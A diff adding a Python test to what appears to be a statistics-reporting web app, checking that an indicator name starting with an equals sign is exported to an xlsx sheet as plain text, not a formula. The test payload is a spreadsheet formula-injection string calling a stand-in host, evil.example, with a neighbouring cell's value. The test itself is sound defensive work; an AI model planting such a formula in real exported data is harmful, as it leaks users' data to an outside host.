@@ -393,3 +393,16 @@ def test_last_years_value_and_a_percentage_typed_with_its_sign(client, login, wo
     rate.value, rate.number_format = 0.955, FORMAT_PERCENTAGE_00
     html = page(_upload(client, f"/figures/contribution/{c.id}/sheet", _save(book)))
     assert "<td>100</td><td>95.5</td>" in html, html
+
+
+def test_names_starting_with_an_equals_sign_stay_text(client, login, world, db):
+    """An indicator name the admin typed as "=HYPERLINK(…)" reaches the sheet as text, never a formula."""
+    payload = '=HYPERLINK("http://evil.example/?"&C2,"点此查看")'
+    ind = db.session.scalar(select(Indicator).where(Indicator.cycle_id == world.cycle.id, Indicator.code == "mediators"))
+    ind.name = payload
+    db.session.commit()
+    c = world.contribution_of("sfj", "govern")
+    login(world.liaisons["sfj"])
+    sheet = _download(client, f"/figures/contribution/{c.id}/sheet.xlsx")["统计数据"]
+    cell = sheet.cell(_row_of(sheet, "mediators"), 2)
+    assert cell.value == payload and cell.data_type == "s"
